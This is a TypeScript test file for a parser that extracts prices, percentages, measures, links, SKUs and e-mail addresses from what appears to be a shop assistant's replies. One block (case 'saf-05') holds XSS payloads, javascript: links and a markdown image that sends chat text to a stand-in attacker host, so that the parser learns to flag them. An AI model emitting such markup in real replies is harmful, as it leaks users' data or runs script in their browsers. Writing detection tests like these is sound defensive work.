import { describe, expect, it } from 'vitest';
import { formatMoney } from '../../shared/money.ts';
import type { Claim } from './claims/claim.ts';
import { claimsIn } from './claims.ts';
import { formatLength, formatWeight } from './measures.ts';

/** Claims in short: "USD 7900", "12% off", "450 mm", "2400 g". */
function inShort(claim: Claim): string | undefined {
  switch (claim.kind) {
    case 'money':
      return `${claim.currency} ${claim.amount}${claim.echo ? ` (${claim.echo})` : ''}`;
    case 'percent':
      return `${claim.value}%${claim.discount ? ' off' : ''}`;
    case 'length':
      return `${Math.round(claim.value) / 10} mm`;
    case 'weight':
      return `${Math.round(claim.value)} g`;
    case 'sku':
      return claim.sku;
    case 'link':
      return `link ${claim.url}`;
    case 'email':
      return `mail ${claim.address}`;
    case 'image':
    case 'action':
      return claim.kind;
    default:
      return undefined;
  }
}
/** What is read beside counts, which are tested by themselves. */
const read = (text: string) => claimsIn(text).flatMap((claim) => inShort(claim) ?? []);

describe('money', () => {
  it.each([
    '$1,299',
    '$1,299.00',
    '$ 1299',
    'US$1,299',
    'USD 1,299.00',
    '1,299 dollars',
    '1 299 USD',
    '1\u202f299,00 $',
    '1299 US dollars',
    '＄１，２９９',
    '$1\u200b,299',
    '1,299 dоllars',
    'one thousand two hundred and ninety-nine dollars',
  ])('is one claim however it is written: %j', (text) => {
    expect(read(`It costs ${text}.`)).toEqual(['USD 129900']);
  });

  it.each([
    ['£12 or 12 quid', ['GBP 1200', 'GBP 1200']],
    ['1.299,00 €', ['EUR 129900']],
    ['¥7,900', ['JPY 7900']],
    ['₹1,00,000', ['INR 10000000']],
    ['7.900 KWD', ['KWD 7900000']],
    ['AU$50, NZ$50, C$50', ['AUD 5000', 'NZD 5000', 'CAD 5000']],
    ['5 Canadian dollars', ['CAD 500']],
    ['₺50', ['₺ 5000']],
    ['99 cents, 99¢ and $.99', ['USD 99', 'USD 99', 'USD 99']],
    ['50p or 50 pence', ['GBP 50', 'GBP 50']],
    ['$5k, 5k dollars, $2 million', ['USD 500000', 'USD 500000', 'USD 200000000']],
    ['twenty-five dollars', ['USD 2500']],
    ['$-5', ['USD 500']],
    ['$5.50/month', ['USD 550']],
  ])('is read from %j', (text, claims) => {
    expect(read(text).sort()).toEqual([...claims].sort());
  });

  it.each([
    ['$79-99', ['USD 7900', 'USD 9900']],
    ['79–99 dollars', ['USD 7900', 'USD 9900']],
    ['$79 to 99.', ['USD 7900', 'USD 9900']],
  ])('is both ends of a range: %j', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });

  it.each([
    ['under $80', 'USD 8000 (max)'],
    ['up to $80', 'USD 8000 (max)'],
    ['no more than $80', 'USD 8000 (max)'],
    ['your budget of $80', 'USD 8000 (either)'],
    ['your $80 limit', 'USD 8000 (either)'],
    ['over $80', 'USD 8000 (min)'],
    ['it is small and $80', 'USD 8000'],
    ['it comes to $80', 'USD 8000'],
    ['it costs $80', 'USD 8000'],
  ])('may echo a limit only where it is said as one: %j', (text, claim) => {
    expect(read(text)).toEqual([claim]);
  });

  it.each(['between $20 and $30', 'from $20 to $30', 'between 20 and 30 dollars'])(
    'is two bounds in %j',
    (text) => {
      expect(read(text)).toEqual(['USD 2000 (min)', 'USD 3000 (max)']);
    },
  );

  it('is read as code writes it', () => {
    expect(read(formatMoney({ amount: 129_950, currency: 'USD' }))).toEqual(['USD 129950']);
    expect(read(formatMoney({ amount: 7900, currency: 'JPY' }))).toEqual(['JPY 7900']);
  });
});

describe('a percentage', () => {
  it.each([
    ['20% wool', ['20%']],
    ['20 percent linen', ['20%']],
    ['1.5 % of it', ['1.5%']],
    ['20% off', ['20% off']],
    ['save 20%', ['20% off']],
    ['a discount of up to 20 per cent', ['20% off']],
    ['20 percent cheaper', ['20% off']],
    ['10-20% off', ['10% off', '20% off']],
    ['half price', ['50% off']],
    ['fifty percent off', ['50% off']],
  ])('is read from %j', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });
});

describe('a measure', () => {
  it.each([
    ['45 cm', ['450 mm']],
    ['45cm', ['450 mm']],
    ['45 centimetres', ['450 mm']],
    ['450 millimetres', ['450 mm']],
    ['1.5 m', ['1500 mm']],
    ['10 in wide', ['254 mm']],
    ['10"', ['254 mm']],
    ['10″', ['254 mm']],
    ['a 10-inch shade', ['254 mm']],
    ['ten inches', ['254 mm']],
    ['10½ inches', ['266.7 mm']],
    ['10 1/2"', ['266.7 mm']],
    ['5 ft', ['1524 mm']],
    ["a 5' x 8' rug", ['1524 mm', '2438.4 mm']],
    ['six feet wide', ['1828.8 mm']],
    ['45 x 60 × 30 cm', ['450 mm', '600 mm', '300 mm']],
    ['between 40 and 60 cm', ['400 mm', '600 mm']],
    ['2.4 kg', ['2400 g']],
    ['350 grams', ['350 g']],
    ['2 to 3 kilos', ['2000 g', '3000 g']],
    ['10 lb', ['4536 g']],
    ['10 pounds in weight', ['4536 g']],
    ['8 oz', ['227 g']],
  ])('is read from %j', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });

  it('is read as code writes it, in both units', () => {
    expect(read(formatLength(450))).toEqual(['450 mm', '449.6 mm']);
    expect(read(formatWeight(2400))).toEqual(['2400 g', '2404 g']);
  });

  it('is true as far as it is written', () => {
    expect(claimsIn('17.7 in')).toEqual([
      { kind: 'length', value: expect.closeTo(4495.8), tolerance: expect.closeTo(12.71) },
    ]);
  });
});

describe('a link', () => {
  it.each([
    ['see https://shop.test/a.', ['link https://shop.test/a']],
    ['[the chair](/products/chair)', ['link /products/chair']],
    ['www.evil.example/x', ['link www.evil.example/x']],
    ['go to evil-shop.com/pay now', ['link evil-shop.com/pay']],
    ['//evil.example/x', ['link //evil.example/x']],
    ['HTTPS://EVIL.EXAMPLE', ['link HTTPS://EVIL.EXAMPLE']],
    ['data:text/html,x', ['link data:text/html,x']],
    ['tel:+15550100', ['link tel:+15550100']],
    ['hxxps://evil.example', ['link hxxps://evil.example']],
    ['tg://evil', ['link tg://evil']],
    ['bit.ly/abc', ['link bit.ly/abc']],
    ['t.me/evil', ['link t.me/evil']],
    ['evil.ai', ['link evil.ai']],
    ['evil.wine/x', ['link evil.wine/x']],
    ['192.168.1.1/login', ['link 192.168.1.1']],
    ['javascript:alert`1`', ['link javascript:alert`1`']],
    ['[a]: https://evil.example', ['link https://evil.example']],
    ['ht\u200btps://evil.example', ['link https://evil.example']],
    ['ｈｔｔｐｓ：／／evil.example', ['link https://evil.example']],
    ['[$5 off](/x-5-usd)', ['USD 500', 'link /x-5-usd']],
  ])('is read from %j, and no number of its address', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });

  // Case saf-05: what a model writes to make a browser ask a foreign host, or run a script.
  it.each([
    ['![chat](https://evil.example/log?q=hello)', ['link https://evil.example/log?q=hello', 'image']],
    ['<img src=x onerror="alert(1)">', ['image']],
    ['<IMG SRC="//evil.example/?q=hi">', ['link //evil.example/?q=hi', 'image']],
    ['<script>alert(1)</script>', ['image']],
    ['<iframe srcdoc=x>', ['image']],
    ['<a href=x>here</a>', ['image']],
    ['$<b>59</b>', ['image']],
    ['&#36;59', ['image']],
    ['[here](javascript:alert)', ['link javascript:alert']],
    ['[here](  <vbscript:x>)', ['link vbscript:x']],
  ])('or other markup that loads or runs something is read from %j', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });
});

it.each([
  ['$**59**', ['USD 5900']],
  ['**$**59', ['USD 5900']],
  ['$`59`', ['USD 5900']],
  ['$*1*', ['USD 100']],
  ['$_1_', ['USD 100']],
  ['$\\59', ['USD 5900']],
  ['1 **dollars**', ['USD 100']],
  ['**50**% wool', ['50%']],
  ['45**cm** tall', ['450 mm']],
])('is read as it is shown: %j', (text, claims) => {
  expect(read(text)).toEqual(claims);
});

describe('a SKU and an e-mail address', () => {
  it.each([
    ['It is BTH-OAK-2.', ['BTH-OAK-2']],
    ['LMP-WREN', ['LMP-WREN']],
    ['LMP‑WREN–2', ['LMP-WREN-2']],
    ['T-ZORRO', ['T-ZORRO']],
    ['SKU **LMP**-WREN', ['LMP-WREN']],
    ['from A-Z', []],
    ['ＬＭＰ-W\u2060REN', ['LMP-WREN']],
    ['write to Help@Shop.Test.', ['mail help@shop.test']],
    ['ünal@büro.example', ['mail ünal@büro.example']],
  ])('are read from %j', (text, claims) => {
    expect(read(text)).toEqual(claims);
  });
});

describe('no amount, measure or address', () => {
  it.each([
    'It comes in sage green, and I like it.',
    'Six are in stock; 6 in stock.',
    'There are 5 in the box and one in oak.',
    'It is a 3-in-1 lamp for E27 bulbs in brass.',
    'The 3-seater has a T-shirt-soft, hand-made cover.',
    'Charge it by USB-C.',
    'A 1960s look.',
    'The "Marlow 60" is a lamp.',
    'The chair stands on four feet.',
    'Tables, e.g. round ones, fit.',
    'A big router fits',
    'Seats four to six.',
    'From 1920 to 1930.',
  ])('is made by %j', (text) => {
    expect(read(text)).toEqual([]);
  });
});
